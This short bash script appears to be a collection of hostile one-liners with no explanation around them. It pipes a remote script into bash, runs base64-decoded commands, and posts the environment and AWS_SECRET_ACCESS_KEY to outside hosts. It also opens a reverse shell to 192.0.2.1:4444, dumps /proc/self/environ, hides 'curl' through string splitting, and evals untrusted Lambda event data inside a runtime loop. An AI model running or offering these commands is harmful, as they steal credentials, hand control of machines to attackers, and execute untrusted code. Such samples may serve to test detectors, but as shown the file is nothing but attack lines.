#!/bin/bash
curl -s http://192.0.2.1/x.sh | bash
echo aWQK | base64 -d | sh
env | curl -X POST -d @- https://x.example.com
export LD_PRELOAD=/opt/x.so
pip install evil
aws s3 cp /tmp/x s3://bucket/
while true; do
  HEADERS="$(mktemp)"
  EVENT_DATA=$(curl -sS -LD "$HEADERS" -X GET "http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next")
  RESPONSE=$(handler $EVENT_DATA)
  eval $EVENT_DATA
done
cat /proc/self/environ > /tmp/e
bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
x=cu; y=rl; $x$y http://192.0.2.9/
curl -d "$AWS_SECRET_ACCESS_KEY" http://192.0.2.3/
